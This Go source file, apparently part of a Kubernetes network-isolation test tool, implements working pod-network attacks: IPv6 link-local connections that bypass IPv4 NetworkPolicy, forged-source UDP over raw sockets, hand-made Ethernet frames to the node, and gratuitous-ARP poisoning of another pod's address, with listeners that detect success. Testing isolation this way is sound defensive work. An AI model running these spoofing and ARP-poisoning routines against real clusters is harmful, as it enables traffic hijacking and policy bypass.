package main

// Network attacks on the pod network: IPv6 link-local around an IPv4
// NetworkPolicy, forged IPv4 source addresses (raw IPv4 socket, NET_RAW),
// hand-made Ethernet frames to the node (AF_PACKET: 127.0.0.1 through the
// bridge, IPv6 to the node's link-local address) and gratuitous ARP for
// another pod's address, with the listeners and probes that tell whether
// they arrived.

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	register("udp-listen", udpListen)
	register("udp-send", udpSend)
	register("udp-spoof", udpSpoof)
	register("tcp-serve", tcpServe)
	register("tcp-connect", tcpConnect)
	register("connect6-ll", connect6LL)
	register("frame", frame)
	register("garp", garp)
	register("arp-watch", arpWatch)
}

const ifName = "eth0"

// udpListen: udp-listen PORT SECONDS prints "GOT <source> <payload>" for
// each datagram received on PORT within SECONDS.
func udpListen(args []string) error {
	return serveUDP(args, "udp-listen", func(_ net.PacketConn, from net.Addr, msg []byte) error {
		fmt.Printf("GOT %s %s\n", from.(*net.UDPAddr).IP, msg)
		return nil
	})
}

// serveUDP listens on args[0] (PORT) for args[1] (SECONDS), prints
// "LISTENING" once it does, and hands fn every datagram.
func serveUDP(args []string, name string, fn func(pc net.PacketConn, from net.Addr, msg []byte) error) error {
	if len(args) != 2 {
		return fmt.Errorf("usage: %s PORT SECONDS", name)
	}
	secs, err := strconv.Atoi(args[1])
	if err != nil {
		return err
	}
	pc, err := net.ListenPacket("udp", ":"+args[0])
	if err != nil {
		return err
	}
	defer pc.Close()
	fmt.Println("LISTENING")
	pc.SetReadDeadline(time.Now().Add(time.Duration(secs) * time.Second))
	buf := make([]byte, 1500)
	for {
		n, from, err := pc.ReadFrom(buf)
		if err != nil {
			return nil // the deadline
		}
		if err := fn(pc, from, buf[:n]); err != nil {
			return err
		}
	}
}

// udpSend: udp-send IP PORT MSG sends MSG three times from the pod's own
// address.
func udpSend(args []string) error {
	if len(args) != 3 {
		return errors.New("usage: udp-send IP PORT MSG")
	}
	c, err := net.Dial("udp4", net.JoinHostPort(args[0], args[1]))
	if err != nil {
		return err
	}
	defer c.Close()
	for range 3 {
		if _, err := c.Write([]byte(args[2])); err != nil {
			return err
		}
		time.Sleep(100 * time.Millisecond)
	}
	return nil
}

// udpSpoof: udp-spoof SRC DST PORT MSG sends MSG three times in an IPv4
// packet whose source address is SRC, through a raw socket (IP_HDRINCL).
func udpSpoof(args []string) error {
	if len(args) != 4 {
		return errors.New("usage: udp-spoof SRC DST PORT MSG")
	}
	src, dst := net.ParseIP(args[0]).To4(), net.ParseIP(args[1]).To4()
	port, err := strconv.Atoi(args[2])
	if src == nil || dst == nil || err != nil {
		return errors.New("bad address or port")
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	defer unix.Close(fd)
	sa := &unix.SockaddrInet4{}
	copy(sa.Addr[:], dst)
	for range 3 {
		if err := unix.Sendto(fd, ipv4UDP(src, dst, port, []byte(args[3])), 0, sa); err != nil {
			return fmt.Errorf("sendto: %w", err)
		}
		time.Sleep(100 * time.Millisecond)
	}
	return nil
}

// tcpServe: tcp-serve PORT SECONDS listens on [::]:PORT (IPv4 and IPv6)
// and greets each client with "hello"; it first prints the pod's IPv6
// addresses ("ADDR6 ...").
func tcpServe(args []string) error {
	if len(args) != 2 {
		return errors.New("usage: tcp-serve PORT SECONDS")
	}
	secs, err := strconv.Atoi(args[1])
	if err != nil {
		return err
	}
	if ifi, err := net.InterfaceByName(ifName); err == nil {
		addrs, _ := ifi.Addrs()
		for _, a := range addrs {
			if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() == nil {
				fmt.Printf("ADDR6 %s\n", ipn.IP)
			}
		}
	}
	ln, err := net.Listen("tcp", ":"+args[0])
	if err != nil {
		return err
	}
	fmt.Println("LISTENING")
	ln.(*net.TCPListener).SetDeadline(time.Now().Add(time.Duration(secs) * time.Second))
	for {
		c, err := ln.Accept()
		if err != nil {
			return nil // the deadline
		}
		fmt.Printf("ACCEPTED %s\n", c.RemoteAddr())
		c.Write([]byte("hello\n"))
		c.Close()
	}
}

// tcpConnect: tcp-connect ADDR connects (3 s) and expects "hello".
func tcpConnect(args []string) error {
	if len(args) != 1 {
		return errors.New("usage: tcp-connect HOST:PORT")
	}
	return greet(args[0])
}

func greet(addr string) error {
	c, err := net.DialTimeout("tcp", addr, 3*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(3 * time.Second))
	b, err := io.ReadAll(c)
	if strings.TrimSpace(string(b)) != "hello" {
		return fmt.Errorf("greeting %q: %v", b, err)
	}
	return nil
}

// connect6LL: connect6-ll IPV4 PORT learns the MAC of the pod at IPV4
// (ARP, which no policy stops), derives its EUI-64 link-local address, and
// connects to it on PORT through eth0.
func connect6LL(args []string) error {
	if len(args) != 2 {
		return errors.New("usage: connect6-ll IPV4 PORT")
	}
	mac, err := neighbourMAC(args[0], 3*time.Second)
	if err != nil {
		return err
	}
	ll := eui64(mac)
	fmt.Printf("TARGET6 %s%%%s\n", ll, ifName)
	return greet(net.JoinHostPort(ll.String()+"%"+ifName, args[1]))
}

// frame: frame udp4|udp6 SRC|own DST PORT MSG sends MSG in a UDP packet
// inside an Ethernet frame made by hand (AF_PACKET) to the default
// gateway's MAC: what a pod with the default NET_RAW can put on the wire,
// whatever its routes and addresses.
func frame(args []string) error {
	if len(args) != 5 {
		return errors.New("usage: frame udp4|udp6 SRC|own DST PORT MSG")
	}
	ifi, err := net.InterfaceByName(ifName)
	if err != nil {
		return err
	}
	gw, err := defaultGateway()
	if err != nil {
		return err
	}
	gwMAC, err := neighbourMAC(gw.String(), 3*time.Second)
	if err != nil {
		return err
	}
	port, err := strconv.Atoi(args[3])
	if err != nil {
		return err
	}
	var payload []byte
	var etherType uint16
	switch args[0] {
	case "udp4":
		src := ownIPv4(ifi)
		if args[1] != "own" {
			src = net.ParseIP(args[1]).To4()
		}
		dst := net.ParseIP(args[2]).To4()
		if src == nil || dst == nil {
			return errors.New("bad IPv4 address")
		}
		payload, etherType = ipv4UDP(src, dst, port, []byte(args[4])), unix.ETH_P_IP
	case "udp6":
		src := eui64(ifi.HardwareAddr)
		if args[1] != "own" {
			src = net.ParseIP(args[1])
		}
		dst := net.ParseIP(args[2])
		if src == nil || dst == nil {
			return errors.New("bad IPv6 address")
		}
		payload, etherType = ipv6UDP(src, dst, port, []byte(args[4])), unix.ETH_P_IPV6
	default:
		return fmt.Errorf("unknown protocol %q", args[0])
	}
	f := append(append(append([]byte{}, gwMAC...), ifi.HardwareAddr...), byte(etherType>>8), byte(etherType))
	return sendFrames(ifi, append(f, payload...), 3)
}

// garp: garp IPV4 SECONDS broadcasts gratuitous ARP requests claiming
// IPV4 for the pod's own MAC, every 200 ms for SECONDS.
func garp(args []string) error {
	if len(args) != 2 {
		return errors.New("usage: garp IPV4 SECONDS")
	}
	ip := net.ParseIP(args[0]).To4()
	secs, err := strconv.Atoi(args[1])
	if ip == nil || err != nil {
		return errors.New("bad address or duration")
	}
	ifi, err := net.InterfaceByName(ifName)
	if err != nil {
		return err
	}
	fmt.Printf("MAC %s\n", ifi.HardwareAddr)
	bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	f := append(append([]byte{}, bcast...), ifi.HardwareAddr...)
	f = append(f, 0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, 1) // Ethernet, IPv4, request
	f = append(append(f, ifi.HardwareAddr...), ip...)
	f = append(append(f, 0, 0, 0, 0, 0, 0), ip...)
	return sendFrames(ifi, f, secs*5)
}

// arpWatch: arp-watch IPV4 SECONDS resolves IPV4 and prints "BEFORE
// <mac>", then watches the neighbour table for SECONDS and prints
// "CHANGED <mac>" as soon as the entry names another MAC: a gratuitous ARP
// has poisoned it.
func arpWatch(args []string) error {
	if len(args) != 2 {
		return errors.New("usage: arp-watch IPV4 SECONDS")
	}
	secs, err := strconv.Atoi(args[1])
	if err != nil {
		return err
	}
	mac, err := neighbourMAC(args[0], 3*time.Second)
	if err != nil {
		return err
	}
	fmt.Printf("BEFORE %s\n", mac)
	for end := time.Now().Add(time.Duration(secs) * time.Second); time.Now().Before(end); {
		now, _, err := arpEntry(args[0])
		if err != nil {
			return err
		}
		if now != nil && now.String() != mac.String() {
			fmt.Printf("CHANGED %s\n", now)
			return nil
		}
		time.Sleep(50 * time.Millisecond)
	}
	return nil
}

func sendFrames(ifi *net.Interface, f []byte, n int) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		return fmt.Errorf("packet socket: %w", err)
	}
	defer unix.Close(fd)
	sa := &unix.SockaddrLinklayer{Ifindex: ifi.Index, Halen: 6}
	copy(sa.Addr[:], f[:6])
	for range n {
		if err := unix.Sendto(fd, f, 0, sa); err != nil {
			return fmt.Errorf("sendto: %w", err)
		}
		time.Sleep(200 * time.Millisecond)
	}
	return nil
}

// neighbourMAC resolves ip on eth0: a datagram to the discard port makes
// the kernel ask by ARP, and /proc/net/arp then has the answer.
func neighbourMAC(ip string, within time.Duration) (net.HardwareAddr, error) {
	deadline := time.Now().Add(within)
	for {
		if mac, ok, err := arpEntry(ip); err != nil || ok {
			return mac, err
		}
		if time.Now().After(deadline) {
			return nil, fmt.Errorf("no ARP answer from %s", ip)
		}
		if c, err := net.Dial("udp4", net.JoinHostPort(ip, "9")); err == nil {
			c.Write([]byte("x"))
			c.Close()
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// arpEntry gives ip's MAC in /proc/net/arp, and whether it is complete.
func arpEntry(ip string) (net.HardwareAddr, bool, error) {
	f, err := os.Open("/proc/net/arp")
	if err != nil {
		return nil, false, err
	}
	defer f.Close()
	s := bufio.NewScanner(f)
	for s.Scan() {
		fl := strings.Fields(s.Text())
		if len(fl) >= 4 && fl[0] == ip && fl[2] == "0x2" {
			mac, err := net.ParseMAC(fl[3])
			return mac, err == nil, err
		}
	}
	return nil, false, s.Err()
}

func defaultGateway() (net.IP, error) {
	b, err := os.ReadFile("/proc/net/route")
	if err != nil {
		return nil, err
	}
	for _, l := range strings.Split(string(b), "\n")[1:] {
		f := strings.Fields(l)
		if len(f) >= 3 && f[1] == "00000000" {
			v, err := strconv.ParseUint(f[2], 16, 32)
			if err != nil {
				return nil, err
			}
			ip := make(net.IP, 4)
			binary.LittleEndian.PutUint32(ip, uint32(v))
			return ip, nil
		}
	}
	return nil, errors.New("no default route")
}

func ownIPv4(ifi *net.Interface) net.IP {
	addrs, _ := ifi.Addrs()
	for _, a := range addrs {
		if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() != nil {
			return ipn.IP.To4()
		}
	}
	return nil
}

// eui64 is the link-local address the kernel derives from a MAC by
// default (addr_gen_mode 0).
func eui64(mac net.HardwareAddr) net.IP {
	ip := make(net.IP, 16)
	ip[0], ip[1] = 0xfe, 0x80
	copy(ip[8:], []byte{mac[0] ^ 2, mac[1], mac[2], 0xff, 0xfe, mac[3], mac[4], mac[5]})
	return ip
}

func ipv4UDP(src, dst net.IP, port int, msg []byte) []byte {
	p := make([]byte, 28+len(msg))
	p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_UDP
	binary.BigEndian.PutUint16(p[2:], uint16(len(p)))
	copy(p[12:], src)
	copy(p[16:], dst)
	binary.BigEndian.PutUint16(p[10:], ^sum(0, p[:20]))
	udp := p[20:]
	binary.BigEndian.PutUint16(udp[0:], 40000)
	binary.BigEndian.PutUint16(udp[2:], uint16(port))
	binary.BigEndian.PutUint16(udp[4:], uint16(8+len(msg)))
	copy(udp[8:], msg) // checksum 0: none, allowed in IPv4
	return p
}

func ipv6UDP(src, dst net.IP, port int, msg []byte) []byte {
	p := make([]byte, 48+len(msg))
	p[0] = 0x60
	binary.BigEndian.PutUint16(p[4:], uint16(8+len(msg)))
	p[6], p[7] = unix.IPPROTO_UDP, 64
	copy(p[8:], src.To16())
	copy(p[24:], dst.To16())
	udp := p[40:]
	binary.BigEndian.PutUint16(udp[0:], 40000)
	binary.BigEndian.PutUint16(udp[2:], uint16(port))
	binary.BigEndian.PutUint16(udp[4:], uint16(8+len(msg)))
	copy(udp[8:], msg)
	// IPv6 requires the UDP checksum, over a pseudo-header.
	pseudo := append(append([]byte{}, p[8:40]...), 0, 0, 0, 0, 0, 0, 0, unix.IPPROTO_UDP)
	binary.BigEndian.PutUint16(pseudo[34:], uint16(len(udp)))
	c := ^sum(sum(0, pseudo), udp)
	if c == 0 {
		c = 0xffff
	}
	binary.BigEndian.PutUint16(udp[6:], c)
	return p
}

// sum is the ones' complement sum of b added to s.
func sum(s uint16, b []byte) uint16 {
	acc := uint32(s)
	for i := 0; i+1 < len(b); i += 2 {
		acc += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		acc += uint32(b[len(b)-1]) << 8
	}
	for acc > 0xffff {
		acc = acc&0xffff + acc>>16
	}
	return uint16(acc)
}
